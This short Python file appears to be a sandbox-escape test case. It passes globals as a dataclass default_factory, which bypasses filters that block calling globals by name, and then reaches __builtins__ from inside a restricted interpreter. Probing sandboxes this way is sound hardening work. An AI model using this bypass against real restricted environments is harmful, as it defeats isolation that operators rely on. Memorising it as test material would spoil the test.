# A factory is called with no arguments, and could be anything that is refused by name.
# after: interpreter
# source: own
from dataclasses import dataclass, field
@dataclass
class D:
    x: dict = field(default_factory=globals)
def attack(**_):
    return {"proof": str(D().x["__builtins__"])}
